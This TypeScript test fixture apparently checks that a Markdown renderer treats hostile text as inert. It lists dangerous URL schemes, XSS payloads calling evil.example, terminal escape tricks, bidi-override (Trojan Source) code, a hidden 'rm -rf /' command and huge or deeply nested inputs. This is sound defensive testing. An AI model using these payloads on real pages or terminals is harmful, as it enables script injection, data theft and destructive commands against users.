/** An answer that means harm, and words that its reader must be able to read all the same. */
export interface HostileAnswer {
  readonly name: string;
  readonly text: string;
  readonly words: string;
}

const run = 'window.fired=1';

/** Addresses that must not be followed, however they are dressed. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61vascript:${run}`,
  `java&#9;script:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java&#10;script:${run}`,
  `java&#0;script:${run}`,
  `java\u200Bscript:${run}`,
  `java\u00ADscript:${run}`,
  `\u0001javascript:${run}`,
  `\uFEFFjavascript:${run}`,
  `javascript%3A${run}`,
  `%6Aavascript:${run}`,
  `javascript\\:${run}`,
  `ｊavascript:${run}`,
  `javascript://https://example.com/%0A${run}`,
  `javascript:https://example.com`,
  `vbscript:${run}`,
  `livescript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `DATA:text/html,x`,
  `blob:http://panel.test/1`,
  `filesystem:http://panel.test/temporary/x`,
  `file:///etc/passwd`,
  `FILE://evil.example/share`,
  `command:workbench.action.terminal.new`,
  `command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D`,
  `Command&colon;workbench.action.quit`,
  `vscode:extension/evil.example`,
  `vscode://file/etc/passwd`,
  `vscode-insiders://settings`,
  `vscode-webview://x/index.html`,
  `vscode-resource:/etc/passwd`,
  `//evil.example/x`,
  `\\\\evil.example\\share`,
  `/\\evil.example`,
  `https:`,
  `https:///`,
  `http://[`,
  `https://exa mple.com`,
  `ftp://evil.example/x`,
  `ws://evil.example/x`,
  `mailto:someone@evil.example?body=x`,
  `tel:+123`,
  `ms-settings:privacy`,
  `search-ms:query=x`,
  `view-source:http://panel.test/`,
  `about:blank`,
  `chrome://settings`,
  `?query`,
  `#fragment`,
  `../../../etc/passwd`,
];

/** Markup that must be read, not obeyed. */
const markup = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\n>${run}</script\n>`,
  `<img src=x onerror=${run}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<picture><source srcset=https://evil.example/b.png></picture>`,
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><script>${run}</script></mtext></math>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.fired=1</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x">`,
  `<video src="https://evil.example/x.mp4" autoplay onerror=${run}></video>`,
  `<audio src=https://evil.example/x.mp3 autoplay></audio>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=prefetch href=https://evil.example/p>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<style>body{display:none}</style>`,
  `<div style="background:url(https://evil.example/x.png)">styled</div>`,
  `<div style="position:fixed;inset:0">over all</div>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<form action=https://evil.example><input name=token autofocus onfocus=${run}></form>`,
  `<button onclick=${run}>press</button>`,
  `<a href="javascript:${run}">a link</a>`,
  `<a href="https://evil.example" ping="https://evil.example/p">ping</a>`,
  `<details open ontoggle=${run}>open</details>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>moves</marquee>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea></textarea><script>${run}</script>`,
  `<dialog open>dialog</dialog>`,
  `<portal src=https://evil.example></portal>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?php ${run} ?>`,
  `<!DOCTYPE html><script>${run}</script>`,
  `</main></body><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'onmouseover='${run}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${run}>`,
  `\${${run}} {{${run}}} <%= ${run} %>`,
];

/** Places where Markdown takes markup or an address. */
const places: Readonly<Record<string, (html: string) => string>> = {
  'in a heading': (html) => `# ${html}`,
  'in a list': (html) => `- ${html}\n- [x] ${html}`,
  'in a quote': (html) => `> ${html}`,
  'in a table': (html) => `| ${html} |\n| --- |\n| ${html} |`,
  'in code': (html) => `\`${html}\``,
  'as a language': (html) => `\`\`\`${html}\nwords\n\`\`\``,
  'in a fence': (html) => `\`\`\`html\n${html}\n\`\`\``,
  'as link text': (html) => `[${html}](https://example.com)`,
  'as a title': (html) => `[words](https://example.com '${html}')`,
  'as an image text': (html) => `![${html}](https://evil.example/x.png)`,
  'as a label': (html) => `[words][${html}]\n\n[${html}]: https://example.com`,
};

const escape = '\u001B';

/** What turns, hides or imitates text. */
const tricks: Readonly<Record<string, readonly [text: string, words: string]>> = {
  'a terminal escape in a fence': [
    `\`\`\`sh\necho ${escape}[2J${escape}]0;owned\u0007 hi\n\`\`\``,
    '␛[2J␛]0;owned␇ hi',
  ],
  'a terminal escape in text': [`plain ${escape}[31mred${escape}[0m text`, 'red'],
  'a terminal link': [
    `\`\`\`\n${escape}]8;;https://evil.example${escape}\\here\n\`\`\``,
    '␛]8;;https://evil.example',
  ],
  'backspaces in code': ['```sh\nrm -rf /\b\b\b\b\b\b\b\bls\n```', 'rm -rf /␈'],
  'a carriage return in code': ['```sh\nrm -rf / #\rls\n```', 'rm -rf / #'],
  'a delete in code': ['```\na\u007Fb\n```', 'a␡b'],
  'a C1 control in code': ['```\na\u009B31mb\n```', 'a[U+009B]31mb'],
  'an override in code': ['```c\nif (isAdmin\u202E) { return; }\n```', 'isAdmin[U+202E])'],
  'isolates in code': [
    '```js\n/*\u2066 } if (admin) begin\u2069 */\n```',
    '[U+2066] } if (admin) begin[U+2069]',
  ],
  'marks in code': ['```\na\u200Eb\u200Fc\u061Cd\n```', 'a[U+200E]b[U+200F]c[U+061C]d'],
  'no width in code': ['```\npass\u200Bword\uFEFF\n```', 'pass[U+200B]word[U+FEFF]'],
  'an override in code in a list': ['- a\n\n  ```\n  x\u202Dy\n  ```', 'x[U+202D]y'],
  'an override in inline code': ['call `a\u202Eb` now', 'a[U+202E]b'],
  'an override in a link': ['[safe\u202Emoc.live](https://evil.example) after', 'after'],
  'an unclosed isolate': ['text \u2067 and more\n\nnext', 'next'],
  'a link that names another': ['[https://good.example](https://evil.example)', 'https://good.example'],
  'a user name as host': ['<https://good.example@evil.example/>', 'good.example@evil.example'],
  'a host in other letters': ['[bank](https://bаnk.example)', 'bank'],
  'a very long address': [`[words](https://example.com/${'x'.repeat(3000)})`, 'words'],
  'a path with a scheme': ['see javascript:alert.js:1 and file:///etc/pass.wd:3', 'alert.js:1'],
  'a place beyond the folder': ['see `../../../../etc/passwd.txt:1`', 'passwd.txt:1'],
  'a place with a device': ['see \\\\evil.example\\share\\a.ts:1', 'a.ts:1'],
  'a definition of everything': [
    '[constructor]: javascript:x\n[__proto__]: javascript:y\n\n[constructor] [__proto__] [toString]',
    'toString',
  ],
  'half a surrogate pair': ['a \uD800 b `\uDC00` c', 'c'],
  'a null': ['a\0b <scr\0ipt>', 'ipt>'],
};

function many(text: string, count: number): string {
  return text.repeat(count);
}

/** What is large, deep or endless. */
const heaps: Readonly<Record<string, readonly [text: string, words: string]>> = {
  '5 MB on one line': [`${many('word ', 1_000_000)}end`, 'end'],
  '5 MB without a space': [`${many('x', 5_000_000)}end`, 'end'],
  '5 MB on one line of code': [`\`\`\`js\n${many('a=1;', 1_250_000)}end\n\`\`\``, 'end'],
  '10,000 nested quotes': [`${many('> ', 10_000)}end`, 'end'],
  '10,000 nested quotes without spaces': [`${many('>', 10_000)}end`, 'end'],
  '10,000 nested lists on a line': [`${many('- ', 10_000)}end`, 'end'],
  '500 nested lists': [
    `${Array.from({ length: 500 }, (_, depth) => `${many(' ', depth * 2)}- item ${depth}`).join('\n')} end`,
    'item 499 end',
  ],
  'a table of 500 columns': [
    `${many('| a ', 500)}|\n${many('| - ', 500)}|\n${many('| b ', 500)}|\n\nend`,
    'end',
  ],
  'a table of 5,000 rows': [`| a | b |\n| - | - |\n${many('| c | d |\n', 5000)}\nend`, 'end'],
  'a table that asks for cells': [
    `${many('|a', 2000)}|\n${many('|-', 2000)}|\n${many('|b|\n', 100)}\nend`,
    'end',
  ],
  'a list of 10,000 items': [`${many('- item\n', 10_000)}\nend`, 'end'],
  'a loose list of 5,000 items': [`${many('1. item\n\n', 5000)}end`, 'end'],
  'deep emphasis': [`${many('*a **a ', 5000)}end${many(' a** a*', 5000)}`, 'end'],
  'unclosed emphasis': [`${many('*a ', 20_000)}end`, 'end'],
  'unclosed brackets': [`${many('[', 20_000)}end`, 'end'],
  'closed brackets': [`${many('[a](', 10_000)}end`, 'end'],
  'images in images': [`${many('![', 10_000)}end${many('](x)', 10_000)}`, 'end'],
  'unclosed code spans': [
    `${Array.from({ length: 300 }, (_, length) => `e${many('`', length)}`).join('')} end`,
    'end',
  ],
  'unclosed entities': [`${many('&', 50_000)}end`, 'end'],
  'unclosed tags': [`${many('<a ', 50_000)}end`, 'end'],
  backslashes: [`${many('\\', 50_001)}end`, 'end'],
  'an endless fence': [`\`\`\`ts\n${many('const a = 1;\n', 20_000)}end`, 'end'],
  'fences without end': [`${many('```ts\na\n```\n', 500)}end`, 'end'],
  '1,000 headings': [`${many('# heading\n\n', 1000)}end`, 'end'],
  '20,000 rules': [`${many('---\n\n', 5000)}end`, 'end'],
  '2,000 definitions': [
    `${Array.from({ length: 2000 }, (_, index) => `[a${index}]: https://example.com/`).join('\n')}\n\n[a1] end`,
    'end',
  ],
  'many hard breaks': [`${many('a\\\n', 5000)}end`, 'end'],
  'many paths': [`${many('src/a.ts:1 ', 5000)}end`, 'end'],
  'almost a path': [`${many('a/', 50_000)}end ${many('a.', 50_000)} ${many('a.b:', 20_000)}`, 'end'],
  'many combining marks': [`a${many('\u0301', 20_000)} end`, 'end'],
  'many overrides in code': [`\`\`\`\n${many('\u202Ea', 5000)}end\n\`\`\``, 'end'],
};

const written = (name: string, [text, words]: readonly [string, string]): HostileAnswer => ({
  name,
  text,
  words,
});

/** Each small enough to be streamed a character at a time. */
export const hostileAnswers: readonly HostileAnswer[] = [
  ...addresses.flatMap((address, index) => [
    { name: `link ${index}`, text: `[click me](<${address}>) end`, words: 'click me' },
    { name: `image ${index}`, text: `![picture](<${address}>) end`, words: 'picture' },
    { name: `definition ${index}`, text: `[click me][a] end\n\n[a]: <${address}>`, words: 'click me' },
    { name: `autolink ${index}`, text: `<${address}> end`, words: 'end' },
  ]),
  ...markup.flatMap((html, index) => [
    { name: `markup ${index}`, text: `${html}\n\nend`, words: 'end' },
    { name: `markup ${index} within a line`, text: `before ${html} end`, words: 'before' },
    ...Object.entries(places).map(([place, write]) => ({
      name: `markup ${index} ${place}`,
      text: `${write(html.replaceAll('\n', ' '))}\n\nend`,
      words: 'end',
    })),
  ]),
  ...Object.entries(tricks).map(([name, trick]) => written(name, trick)),
];

/** Too large for that. */
export const hugeAnswers: readonly HostileAnswer[] = Object.entries(heaps).map(([name, heap]) =>
  written(name, heap),
);
